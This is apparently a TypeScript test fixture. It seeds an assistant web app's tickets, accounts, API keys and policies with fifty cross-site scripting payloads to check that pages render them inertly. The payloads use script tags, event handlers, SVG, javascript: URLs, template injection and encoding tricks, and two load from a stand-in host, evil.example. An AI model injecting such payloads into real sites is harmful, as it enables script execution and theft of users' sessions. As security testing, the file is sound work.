/** Fifty pieces of text that run where they are taken for markup, and an office full of them. */
import { onTestFinished } from 'vitest'
import { act, insertTicket } from '../../bot/casework.ts'
import { saveRoster } from '../../bot/roster.ts'
import type { Action } from '../../flows/ticket/actions.ts'
import { type Opening, openTicket } from '../../flows/ticket/ticket.ts'
import { mintNumber } from '../../flows/ticket/ticket-number.ts'
import { Knowledge } from '../../knowledge/knowledge.ts'
import { DOUBT_FIELDS } from '../../knowledge/notice/doubt.ts'
import type { Policy, Source } from '../../knowledge/policy.ts'
import { fieldsOf, policyText } from '../../knowledge/policy-text.ts'
import { createAssistant } from '../../server/assistant.ts'
import { NO_SECRETS } from '../../server/console/accounts/account.ts'
import { createLimits, RULES } from '../../server/limits.ts'
import { createLog } from '../../server/log.ts'
import { advisorOf } from './advisor-page.ts'
import { assistantParts } from './assistant.ts'
import { PASSWORD, passwords } from './console.ts'
import { memoryStore } from './memory-store.ts'
import { pageScripts } from './page-scripts.ts'
import { FACTS, MORNING, opening, part, staff } from './tickets.ts'
import { clockAt, inventory, serve, WITNESS } from './world.ts'

/** Calls {@link PAYLOADS}' tell-tale of a page, or asks for an address below `/beacon/`. */
const TEXTS: readonly ((at: number) => string)[] = [
  // Elements
  (at) => `<script>ran(${at})</script>`,
  (at) => `"'><script>ran(${at})</script>`,
  (at) => `</textarea></title></style></script><script>ran(${at})</script>`,
  (at) => `<ScRiPt>ran(${at})</sCrIpT >`,
  (at) => `<scr<script>ipt>ran(${at})</scr</script>ipt>`,
  (at) => `<script src=/beacon/${at}></script>`,
  (at) => `<script src=//evil.example/${at}></script>`,
  (at) => `<script type=module>ran(${at})</script>`,
  (at) => `<img src=x onerror=ran(${at})>`,
  (at) => `<img src=/beacon/${at}>`,
  (at) => `"><img src=x onerror="ran(${at})">`,
  (at) => `<img/src=x/onerror=ran(${at})//`,
  (at) => `<<img src=x onerror=ran(${at})>>`,
  (at) => `<IMG """><SCRIPT>ran(${at})</SCRIPT>">`,
  (at) => `<image src=x onerror=ran(${at})>`,
  (at) => `<audio src=x onerror=ran(${at})>`,
  (at) => `<video><source onerror=ran(${at})></video>`,
  (at) => `<iframe src="javascript:parent.ran(${at})"></iframe>`,
  (at) => `<iframe srcdoc="<script>parent.ran(${at})</script>"></iframe>`,
  (at) => `<object data="/beacon/${at}"></object>`,
  (at) => `<embed src="/beacon/${at}">`,
  (at) => `<input autofocus onfocus=ran(${at})>`,
  (at) => `<details open ontoggle=ran(${at})>`,
  (at) => `<body onload=ran(${at})>`,
  (at) => `<link rel=stylesheet href=/beacon/${at}>`,
  (at) => `<meta http-equiv=refresh content="0;url=/beacon/${at}">`,
  (at) => `<base href="//evil.example/${at}/">`,
  (at) => `<style>@import "/beacon/${at}";</style>`,
  (at) => `<p style="background:url(/beacon/${at})">x</p>`,
  (at) => `<form action="javascript:ran(${at})"><button autofocus>好</button></form>`,
  // Drawings and formulas
  (at) => `<svg onload=ran(${at})>`,
  (at) => `<svg><script>ran(${at})</script></svg>`,
  (at) => `<svg><animate onbegin=ran(${at}) attributeName=x dur=1s>`,
  (at) => `<svg><use href="data:image/svg+xml,<svg onload=ran(${at})>"/></svg>`,
  (at) => `<math><mi xlink:href="javascript:ran(${at})">x</mi></math>`,
  // What parsers undo
  (at) => `<template><script>ran(${at})</script></template><img src=x onerror=ran(${at})>`,
  (at) => `<![CDATA[<script>ran(${at})</script>]]>`,
  (at) => `]]><script>ran(${at})</script><![CDATA[`,
  (at) => `<!--><script>ran(${at})</script>-->`,
  (at) => `<noscript><p title="</noscript><img src=x onerror=ran(${at})>">`,
  (at) => `&lt;img src=x onerror=ran(${at})&gt;&#60;script&#62;ran(${at})&#60;/script&#62;`,
  (at) => `\\u003cimg src=x onerror=ran(${at})\\u003e %3Cscript%3Eran(${at})%3C/script%3E`,
  // Attributes and scripts that a text may stand in
  (at) => `" autofocus onfocus="ran(${at})" x="`,
  (at) => `' autofocus onfocus='ran(${at})' x='`,
  (at) => `javascript:ran(${at})`,
  (at) => `[点这里](javascript:ran(${at})) ![图](/beacon/${at} "a")`,
  // Templates
  (at) => `{{constructor.constructor('ran(${at})')()}}`,
  (at) => `<p v-html="'<img src=x onerror=ran(${at})>'" @click="ran(${at})">\${ran(${at})}#{ran(${at})}</p>`,
  // Characters that look like others, or turn what follows
  (at) => `\u202e<img src=x onerror=ran(${at})>\u2028＜script＞ran(${at})＜/script＞`,
  (at) => `<img\u0000 src=x\u000conerror=ran(${at})>\u200b<scr\u00adipt>ran(${at})</script>`,
]
export const PAYLOADS: readonly string[] = TEXTS.map((text, at) => text(at))
/** Where in an office words stand that nobody could take for anything else. */
export const PLAIN = PAYLOADS.length + 1
/** What stands in an office: those that run, and two that nobody could take for anything else. */
const WORDS: readonly string[] = [...PAYLOADS, '寻常的话', '平常的话']

/** Who has taken all requests: an advisor whose name is short enough to stand whole. */
export const OWNER = 'a8'
export const RESIDENT = 'hostileresident'
export const numberOf = (at: number): string => mintNumber(0, () => 1000 + at)
export const placeOf = (at: number): string => String(at + 1).padStart(6, '0')
export const policyOf = (at: number): string => `hostile-${at}`
/** As much of it as a name may hold. */
const named = (text: string): string => text.slice(0, 30)

/**
 * A whole assistant that is tried out, where every text that people write is one of {@link PAYLOADS} or plain: of
 * residents, advisors, accounts and policies. Text n stands in the ticket, the advisor `a<n>` and the policy of that
 * number.
 */
export async function hostileOffice() {
  const store = memoryStore()
  const now = clockAt(MORNING.toISOString())
  let ids = 0
  const newId = () => `id-${String(++ids).padStart(8, '0')}`
  await saveRoster(store, {
    areas: [
      { id: 'qu', level: 'district', name: '示范区', parent: null },
      { id: 'yaohua', level: 'street', name: '尧化街道', parent: 'qu' },
      ...WORDS.map((text, at) => ({
        id: `c${at}`,
        level: 'community' as const,
        name: named(text),
        parent: 'yaohua',
      })),
    ],
    advisors: WORDS.map((text, at) => advisorOf(`a${at}`, named(text), 'backbone', 'yaohua')),
  })
  for (const [at, text] of WORDS.entries()) {
    const number = numberOf(at)
    await store.transaction((tx) => insertTicket(tx, openTicket(opening(pleaOf(text, at)))))
    const body = { id: `body-${at}`, name: text }
    const moves: Action[] = [
      { kind: 'contact', channel: '电话', reached: true, why: text },
      { kind: 'screen', why: text },
      { kind: 'dispatch', parts: [part(body, text)], why: text },
      { kind: 'ask-paper', name: text, day: '2026-03-17', why: text },
      { kind: 'assign', owner: { id: OWNER, name: named(PAYLOADS[8] ?? '') }, why: text },
    ]
    for (const action of moves)
      await act(store, { number, action, actor: staff, witness: WITNESS, now: now(), newId })
  }
  const password = await passwords.hash(PASSWORD)
  await store.transaction(async (tx) => {
    for (const [at, text] of WORDS.entries()) {
      await tx.put('heard', {
        id: `heard-${at}`,
        resident: `sandbox:${RESIDENT}`,
        at: new Date(MORNING.getTime() + at * 1000).toISOString(),
        words: text,
        media: null,
      })
      await tx.put('accounts', {
        id: `id-${at}`,
        name: `account${at}`,
        // The first may do all that shows anything.
        roles: at === 0 ? ['admin', 'street', 'auditor', 'editor', 'reviewer'] : ['partner'],
        areas: [],
        state: 'active',
        createdAt: MORNING.toISOString(),
        secrets: { ...NO_SECRETS, password },
        person: { name: text, advisor: null, body: text },
      })
      await tx.put('api_keys', {
        id: String(at).padStart(10, '0'),
        name: text,
        deeds: ['read-tickets', 'report-progress'],
        areas: [`c${at}`],
        body: text,
        createdAt: MORNING.toISOString(),
        expiresAt: MORNING.toISOString(),
        revokedAt: '',
        usedAt: '',
        hash: text,
      })
      await tx.put('tasks', {
        id: `erase:${numberOf(at)}`,
        kind: 'erase',
        resident: `sandbox:${RESIDENT}`,
        ticket: numberOf(at),
        dueAt: MORNING.toISOString(),
        state: 'refused',
        detail: {
          way: 'counter',
          askedAt: MORNING.toISOString(),
          enteredBy: 'account:id-1',
          answer: { by: 'account:id-0', at: MORNING.toISOString(), why: text, area: 'yaohua' },
        },
      })
      await tx.put('imported_policies', {
        id: `hostile@${placeOf(at)}`,
        import: 'hostile',
        place: placeOf(at),
        at: MORNING.toISOString(),
        state: 'waiting',
        policy: `new-${at}`,
        title: text,
        text: policyText(fieldsOf(policyWith(text, at))),
        canonical: '',
        doubts: [{ field: 'title', words: text, why: text }],
        left: [text],
        from: text,
        faults: [text],
        unusable: at % 2 === 0 ? '' : text,
      })
      await tx.put('policy_drafts', {
        id: policyOf(at),
        revision: 1,
        state: 'draft',
        text: policyText(fieldsOf(policyWith(text, at))),
        base: 0,
        author: 'account:id-0',
        editedAt: MORNING.toISOString(),
        reviewer: '',
        reason: text,
        publishOn: '',
        doubts: DOUBT_FIELDS.map((field) => ({ field, words: text, why: text })),
        left: [text],
      })
      await tx.put('questions', {
        id: `question-${at}`,
        at: MORNING.toISOString(),
        reason: 'not-found',
        policies: [],
        state: 'open',
        settled: null,
        words: text,
      })
    }
  })
  await store.transaction((tx) =>
    tx.put('policy_imports', {
      id: 'hostile',
      at: MORNING.toISOString(),
      by: 'account:id-0',
      files: [...WORDS],
      count: WORDS.length,
    }),
  )
  const stop = new AbortController()
  onTestFinished(() => stop.abort())
  const never = { count: Number.MAX_SAFE_INTEGER, seconds: 60 }
  const { app } = createAssistant(
    assistantParts({
      config: { officialAccount: null },
      store,
      knowledge: learnedOnce(),
      log: createLog('silent'),
      now,
      limits: createLimits({ ...RULES, page: never, form: never, refused: never }),
      stop: stop.signal,
      scriptFolder: await pageScripts('server/sandbox/page'),
    }),
  )
  return { base: await serve(app.callback()) }
}

let learned: Knowledge | undefined
/** Policies of those texts, learned once for all tests. */
function learnedOnce(): Knowledge {
  learned ??= Knowledge.from({ ...inventory(), policies: WORDS.map(policyWith) })
  return learned
}

/** A request whose every field a person fills in is that text. */
function pleaOf(text: string, at: number): Partial<Opening> {
  return {
    number: numberOf(at),
    resident: `sandbox:${RESIDENT}`,
    area: `c${at}`,
    fingerprints: [],
    urgency: { level: 'urgent', reason: text },
    facts: {
      ...FACTS,
      relation: text,
      difficulties: [text],
      story: text,
      place: text,
      registeredAt: text,
      name: text,
      household: text,
      income: text,
      photos: [{ kind: text, media: `media-${at}` }],
      proxy: { name: text, phone: '13987654321' },
    },
  }
}

/** A policy whose every field a page shows is that text; its sources lead where the text says. */
function policyWith(text: string, at: number): Policy {
  const [known] = inventory().policies
  if (!known) throw new Error('The inventory is empty')
  const source: Source = {
    document: text,
    number: text,
    article: text,
    issued: null,
    effective: null,
    link: text,
  }
  const section = { lead: text, details: [text, `- ${text}`], source }
  return {
    ...known,
    id: policyOf(at),
    // What stands in brackets at the end of a title is not shown in short.
    title: `${text}补贴`,
    aliases: [],
    departments: [text],
    area: text,
    audience: [text],
    effective: '2021-01-01',
    expires: null,
    supersededBy: null,
    related: [policyOf(PLAIN - 1)],
    phones: [{ name: text, number: '025-85550000' }],
    sources: [source],
    sections: { overview: section, benefit: section, materials: section, steps: section },
  }
}
